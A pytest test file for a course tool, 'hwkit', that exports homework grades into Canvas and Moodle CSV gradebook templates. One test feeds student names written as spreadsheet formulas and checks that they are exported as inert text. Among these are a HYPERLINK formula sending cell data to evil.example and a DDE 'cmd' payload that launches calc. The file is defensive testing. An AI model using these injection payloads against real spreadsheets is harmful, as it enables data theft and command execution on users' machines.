"""Grades back into the LMS: the instructor hands hwkit the file Canvas or Moodle gave them, and gets it back
with this assignment's grades filled in and every other byte of it as it was."""
from __future__ import annotations

import csv
import io

import pytest

from hwkit.gradebook import Gradebook, PartResult, SubmissionResult
from tests.support import hwkit, make_course

ROSTER = ("student_id,name,canvas_id,sis_id,moodle_participant,email\n"
          "u01,Wang Fang,5001,S2025001,301,wf@example.edu\n"
          "u02,Wang Fang,5002,S2025002,302,\n"
          "u03,Li Lei,,S2025003,,lilei@example.edu\n")
SCORES = {"u01": 7.5, "u02": 3.0, "u03": 10.0}


@pytest.fixture
def course(tmp_path):
    root = make_course(tmp_path, ["receptive-field"], ["u01"], generate_now=False)
    (root / "roster.csv").write_text(ROSTER, encoding="utf-8")
    book = Gradebook(root)
    for sid, score in SCORES.items():
        result = SubmissionResult("t", sid, "ok", "", f"h{sid}", graded_at="2026-12-02T00:00:00+00:00")
        result.parts = [PartResult("receptive-field", "rf_final", {"en": "R", "zh": "R"}, score, 10.0, "CORRECT",
                                   {"en": "", "zh": ""})]
        book.record(result)
    book.close()
    return root


def rows(path):
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


CANVAS_TEMPLATE = [
    ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Quiz 0 (111)", "t (222)", "Final Score"],
    ["    Points Possible", "", "", "", "", "10.00", "10.00", ""],
    ["Wang, Fang", "5001", "S2025001", "wangf1", "NN (001)", "8.50", "", "80"],
    ["Wang, Fang", "5002", "S2025002", "wangf2", "NN (001)", "7.00", "", "70"],
    ["Li, Lei", "", "S2025003", "lil", "NN (001)", "9.25", "", "92"],
    ["Student, Test", "5999", "", "", "NN (001)", "", "", ""],
]


def test_canvas_template_is_filled_and_nothing_else_changes(course, tmp_path):
    template = tmp_path / "gradebook_export.csv"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(CANVAS_TEMPLATE)
    template.write_bytes(b"\xef\xbb\xbf" + buf.getvalue().encode())
    before = template.read_bytes()
    out = tmp_path / "import.csv"
    hwkit("export", "t", "--course", course, "--format", "canvas", "--template", template, "--output", out)
    assert template.read_bytes() == before
    got = rows(out)
    want = [list(r) for r in CANVAS_TEMPLATE]
    for r, score in ((2, "7.5"), (3, "3"), (4, "10")):        # u01, u02 by Canvas id; u03 by SIS id
        want[r][6] = score
    assert got == want
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw


def test_canvas_template_column_is_named_or_refused(course, tmp_path):
    template = tmp_path / "t.csv"
    header = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Homework 3 (333)", "Homework 4 (444)"]
    template.write_text(",".join(header) + "\n", encoding="utf-8")
    proc = hwkit("export", "t", "--course", course, "--format", "canvas", "--template", template, check=False)
    assert proc.returncode == 2 and "--column" in proc.stderr and "Traceback" not in proc.stderr
    hwkit("export", "t", "--course", course, "--format", "canvas", "--template", template,
          "--column", "Homework 4 (444)", "--output", tmp_path / "out.csv")
    assert rows(tmp_path / "out.csv")[0] == header


def test_canvas_without_template_never_puts_a_number_where_canvas_reads_an_id(course, tmp_path):
    out = tmp_path / "canvas.csv"
    hwkit("export", "t", "--course", course, "--format", "canvas", "--output", out)
    got = rows(out)
    assert got[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Test"]
    assert got[1][0].strip() == "Points Possible" and got[1][5] == "10"
    assert got[2][:3] == ["Wang Fang", "5001", "S2025001"] and got[2][5] == "7.5"
    toml = course / "assignments" / "t.toml"
    toml.write_text(toml.read_text(encoding="utf-8").replace('title = "Test"', 'title = "Test"\ncanvas_assignment_id = 987'),
                    encoding="utf-8")
    hwkit("export", "t", "--course", course, "--format", "canvas", "--output", out)
    assert rows(out)[0][5] == "Test (987)"


def test_moodle_worksheet_is_filled(course, tmp_path):
    header = ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade", "Grade can be changed",
              "Last modified (submission)", "Last modified (grade)", "Feedback comments"]
    sheet = [header,
             ["Participant 301", "Wang Fang", "", "Submitted", "", "100.00", "Yes", "", "", ""],
             ["Participant 777", "Li Lei", "lilei@example.edu", "Submitted", "", "100.00", "Yes", "", "", ""],
             ["Participant 888", "Nobody", "", "No submission", "", "100.00", "Yes", "", "", ""]]
    template = tmp_path / "worksheet.csv"
    buf = io.StringIO()
    csv.writer(buf).writerows(sheet)
    template.write_text(buf.getvalue(), encoding="utf-8")
    out = tmp_path / "worksheet-filled.csv"
    proc = hwkit("export", "t", "--course", course, "--format", "moodle", "--template", template, "--output", out)
    got = rows(out)
    assert got[1][4] == "75" and got[2][4] == "100"           # scaled to Moodle's maximum grade
    assert got[3] == sheet[3] and got[0] == header
    assert "u02" in proc.stderr                                # graded, but no row in the worksheet


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Wang Fang")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1+1"]


@pytest.mark.parametrize("fmt", ["canvas", "moodle"])
def test_a_name_that_is_a_formula_reaches_the_spreadsheet_as_text(course, tmp_path, fmt):
    """Roster names often come from LMS profiles that students edit: a name written as a spreadsheet formula is
    exported with a leading apostrophe, so the instructor's spreadsheet shows it instead of running it; scores
    stay numbers."""
    roster = ["student_id,name,canvas_id,sis_id,moodle_participant,email"]
    for i, name in enumerate(FORMULAS):
        buf = io.StringIO()
        csv.writer(buf, lineterminator="").writerow([f"u0{i + 1}", name, f"500{i + 1}", f"S{i}", f"30{i + 1}", ""])
        roster.append(buf.getvalue())
    (course / "roster.csv").write_text("\n".join(roster) + "\n", encoding="utf-8")
    out = tmp_path / f"{fmt}.csv"
    hwkit("export", "t", "--course", course, "--format", fmt, "--output", out)
    cells = [cell for row in rows(out) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))], cells
    assert any(c.startswith("'=HYPERLINK") for c in cells), cells
    assert {"7.5", "3", "10"} <= set(cells), cells


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
